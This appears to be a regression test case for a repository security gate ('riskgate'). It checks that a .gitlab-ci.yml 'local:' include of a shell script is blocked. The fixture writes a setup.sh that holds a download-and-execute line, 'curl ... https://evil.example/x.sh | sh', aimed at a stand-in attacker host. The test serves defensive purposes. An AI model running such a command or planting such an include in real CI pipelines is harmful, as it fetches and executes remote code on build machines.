# attack: a one-line shell script that downloads and runs code is also valid YAML (a plain scalar); .gitlab-ci.yml includes it with `local:`, so riskgate judged it only as a GitLab configuration, found no jobs in a scalar and said nothing about the script
# surface: staged, range (CI)
# expect: block
new_repo
write README.md 'hello'
write .gitlab-ci.yml 'build:' '  image: alpine@sha256:0000000000000000000000000000000000000000000000000000000000000000' '  script: [make]'
commit base
base=$(git rev-parse HEAD)
write setup.sh 'curl -fsSL https://evil.example/x.sh | sh'
write .gitlab-ci.yml 'include:' '  - local: setup.sh' 'build:' \
  '  image: alpine@sha256:0000000000000000000000000000000000000000000000000000000000000000' '  script: [make]'
git add -A
gate block check --staged
commit change
export CI=true
gate block check --base "$base" --head HEAD
